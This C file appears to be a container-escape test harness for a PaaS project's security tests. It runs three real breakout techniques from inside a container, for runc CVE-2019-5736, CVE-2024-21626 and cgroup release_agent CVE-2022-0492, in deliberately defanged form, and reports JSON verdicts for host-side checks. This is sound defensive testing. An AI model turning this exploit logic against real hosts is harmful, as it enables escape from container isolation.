/*
 * paas escape attempts (RELIABILITY.md T20), run inside a container by the tests of
 * security-escape.test.ts. Each mode tries one known container breakout and prints a
 * JSON verdict; the test checks the host side (canaries, the runtime's hash).
 *
 *   exe <seconds> <outdir>   CVE-2019-5736: plant `#!/proc/self/exe` as
 *                            /usr/local/bin/paas-evil, then watch for processes `runc
 *                            exec` brings in and try to reopen their executable for
 *                            writing. A write puts back the byte already there, so even
 *                            a vulnerable host's runc keeps its content. Verdict in
 *                            <outdir>/result.json.
 *   cwd <host-file> [result] CVE-2024-21626: from a working directory handed over as
 *                            /proc/self/fd/N, climb with ../ and append to a host file.
 *   cgroup                   CVE-2022-0492: new user+cgroup namespaces, a cgroup mount,
 *                            release_agent opened for writing (never written).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 128

struct seen {
  int pid, fd, open_errno, reopen_errnos, write_errno, wrote;
  unsigned long dev, ino;
  char exe[200];
};

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static int write_file(const char *path, const char *text, mode_t mode) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  return n < 0 ? -1 : 0;
}

/* Tries to reopen a watched executable for writing; writes back the byte at offset 0. */
static void try_write(struct seen *s) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", s->fd);
  int w = open(path, O_WRONLY);
  if (w < 0) { if (errno < 31) s->reopen_errnos |= 1 << errno; return; }
  s->reopen_errnos |= 1; /* bit 0: opened */
  unsigned char byte = 0x7f;
  int r = open(path, O_RDONLY);
  if (r >= 0) { if (pread(r, &byte, 1, 0) != 1) byte = 0x7f; close(r); }
  s->wrote = pwrite(w, &byte, 1, 0) == 1;
  s->write_errno = s->wrote ? 0 : errno;
  close(w);
}

/* Takes an O_PATH handle on the process's executable, which outlives the process. */
static void grab(struct seen *s) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", s->pid);
  ssize_t n = readlink(path, s->exe, sizeof s->exe - 1);
  s->exe[n < 0 ? 0 : n] = 0;
  s->fd = open(path, O_PATH);
  s->open_errno = s->fd < 0 ? errno : 0;
  struct stat st;
  if (s->fd >= 0 && fstat(s->fd, &st) == 0) { s->dev = st.st_dev; s->ino = st.st_ino; }
}

static int exe_attack(double seconds, const char *outdir) {
  static struct seen seen[MAX_SEEN];
  int nseen = 0, self = getpid();
  char path[300];
  mkdir("/usr/local/bin", 0755);
  int planted = write_file("/usr/local/bin/paas-evil", "#!/proc/self/exe\n", 0755) == 0;
  snprintf(path, sizeof path, "%s/ready", outdir);
  write_file(path, "ready\n", 0644);
  for (double end = now() + seconds; now() < end;) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == self) continue;
      int known = 0;
      for (int i = 0; i < nseen; i++) known |= seen[i].pid == pid;
      if (known || nseen == MAX_SEEN) continue;
      struct seen *s = &seen[nseen++];
      memset(s, 0, sizeof *s);
      s->pid = pid;
      s->fd = -1;
    }
    if (d) closedir(d);
    for (int i = 0; i < nseen; i++) {
      /* runc init is not dumpable (EACCES): keep trying until it has exec-ed or is gone. */
      if (seen[i].fd < 0 && seen[i].open_errno != ENOENT) grab(&seen[i]);
      if (seen[i].fd >= 0 && !(seen[i].reopen_errnos & 1)) try_write(&seen[i]);
    }
    sched_yield();
  }
  /* The verdict goes to a file in the bind-mounted outdir, whatever the log's format. */
  snprintf(path, sizeof path, "%s/result.json", outdir);
  if (!freopen(path, "w", stdout)) return 1;
  printf("{\"planted\":%s,\"seen\":[", planted ? "true" : "false");
  for (int i = 0; i < nseen; i++) {
    struct seen *s = &seen[i];
    printf("%s{\"pid\":%d,\"exe\":\"", i ? "," : "", s->pid);
    for (char *c = s->exe; *c; c++) if (*c != '"' && *c != '\\') putchar(*c);
    printf("\",\"openErrno\":%d,\"dev\":%lu,\"ino\":%lu,\"reopenErrnos\":%d,\"wrote\":%s,\"writeErrno\":%d}", s->open_errno, s->dev,
           s->ino, s->reopen_errnos, s->wrote ? "true" : "false", s->write_errno);
  }
  puts("]}");
  return 0;
}

static int cwd_attack(const char *host_file, const char *result_file) {
  /* The verdict also goes to a file outside the working directory's reach, for detached runs. */
  if (result_file && !freopen(result_file, "w", stdout)) return 1;
  char cwd[512] = "", link[512] = "", rel[1024];
  int escaped = 0;
  if (!getcwd(cwd, sizeof cwd)) snprintf(cwd, sizeof cwd, "errno %d", errno);
  ssize_t n = readlink("/proc/self/cwd", link, sizeof link - 1);
  link[n < 0 ? 0 : n] = 0;
  printf("{\"cwd\":\"%s\",\"cwdLink\":\"%s\",\"attempts\":[", cwd, link);
  for (int depth = 0; depth <= 12; depth++) {
    rel[0] = 0;
    for (int i = 0; i < depth; i++) strcat(rel, "../");
    strcat(rel, host_file[0] == '/' ? host_file + 1 : host_file);
    int fd = open(rel, O_WRONLY | O_APPEND);
    printf("%s%d", depth ? "," : "", fd < 0 ? errno : 0);
    if (fd >= 0) { escaped |= write(fd, "ESCAPED\n", 8) == 8; close(fd); }
  }
  printf("],\"escaped\":%s}\n", escaped ? "true" : "false");
  return 0;
}

static int cgroup_attack(void) {
  int userns = unshare(CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS) < 0 ? errno : 0;
  mkdir("/tmp/cgrp", 0700);
  int mounted_rdma = mount("cgroup", "/tmp/cgrp", "cgroup", 0, "rdma") < 0 ? errno : 0;
  int mounted_memory = mount("cgroup", "/tmp/cgrp", "cgroup", 0, "memory") < 0 ? errno : 0;
  int child = mkdir("/sys/fs/cgroup/memory/paas-escape", 0755) < 0 ? errno : 0;
  printf("{\"unshare\":%d,\"mountRdma\":%d,\"mountMemory\":%d,\"mkdirCgroup\":%d,\"releaseAgents\":{", userns, mounted_rdma, mounted_memory, child);
  glob_t g;
  int first = 1;
  const char *patterns[] = {"/sys/fs/cgroup/*/release_agent", "/sys/fs/cgroup/release_agent", "/tmp/cgrp/release_agent",
                            "/sys/fs/cgroup/*/notify_on_release"};
  for (size_t p = 0; p < sizeof patterns / sizeof patterns[0]; p++) {
    if (glob(patterns[p], 0, NULL, &g) != 0) continue;
    for (size_t i = 0; i < g.gl_pathc; i++) {
      int fd = open(g.gl_pathv[i], O_WRONLY);
      printf("%s\"%s\":%d", first ? "" : ",", g.gl_pathv[i], fd < 0 ? errno : 0);
      first = 0;
      if (fd >= 0) close(fd);
    }
    globfree(&g);
  }
  puts("}}");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 4 && !strcmp(argv[1], "exe")) return exe_attack(atof(argv[2]), argv[3]);
  if (argc >= 3 && !strcmp(argv[1], "cwd")) return cwd_attack(argv[2], argc >= 4 ? argv[3] : NULL);
  if (argc >= 2 && !strcmp(argv[1], "cgroup")) return cgroup_attack();
  fprintf(stderr, "usage: %s exe <seconds> <outdir> | cwd <host-file> [result-file] | cgroup\n", argv[0]);
  return 2;
}
